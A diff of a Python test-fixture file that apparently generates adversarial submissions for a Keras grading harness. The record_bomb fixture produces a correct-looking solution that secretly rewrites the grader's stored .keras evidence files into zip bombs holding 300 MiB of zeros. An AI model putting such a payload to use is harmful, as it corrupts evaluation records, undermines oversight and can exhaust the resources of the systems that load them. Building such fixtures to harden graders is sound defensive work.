@@ -263,19 +263,21 @@ def prints_when_called():  # the graded function prints 9 MiB at each call
                 "    inputs = keras.Input(shape=(input_dims,))")
 
 
-def record_bomb():      # correct, but each call leaves a zip bomb among the test's records
-    return ("import glob as _glob\nimport io as _io\nimport zipfile as _zipfile\n\n"
-            "_buffer = _io.BytesIO()\n"
-            "with _zipfile.ZipFile(_buffer, 'w', _zipfile.ZIP_DEFLATED) as _zf:\n"
-            "    with _zf.open('model.weights.h5', 'w', force_zip64=True) as _f:\n"
-            "        for _ in range(300):\n"
-            "            _f.write(bytes(2 ** 20))\n"
-            "_BOMB = _buffer.getvalue()  # 300 MiB of zeros in 0.3 MiB\n\n\n"
+def record_bomb():      # correct, but each call turns the test's earlier model records
+    # into zip bombs Keras would unpack: their config, and 300 MiB of weights in 0.3 MiB
+    return ("import glob as _glob\nimport zipfile as _zipfile\n\n\n"
+            "def _bomb(path):\n"
+            "    with _zipfile.ZipFile(path) as _zf:\n"
+            "        _keep = {n: _zf.read(n) for n in _zf.namelist() if n.endswith('.json')}\n"
+            "    with _zipfile.ZipFile(path, 'w', _zipfile.ZIP_DEFLATED) as _zf:\n"
+            "        for _name, _data in _keep.items():\n"
+            "            _zf.writestr(_name, _data)\n"
+            "        with _zf.open('model.weights.h5', 'w', force_zip64=True) as _f:\n"
+            "            for _ in range(300):\n"
+            "                _f.write(bytes(2 ** 20))\n\n\n"
             + _sub("    inputs = keras.Input(shape=(input_dims,))",
-                   "    for _folder in _glob.glob('.grading-evidence/*/'):\n"
-                   "        for _name in [*_glob.glob(_folder + '*.keras'), _folder + 'x.keras']:\n"
-                   "            with open(_name, 'wb') as _out:\n"
-                   "                _out.write(_BOMB)\n"
+                   "    for _name in _glob.glob('.grading-evidence/*/*.keras'):\n"
+                   "        _bomb(_name)\n"
                    "    inputs = keras.Input(shape=(input_dims,))"))
 
 
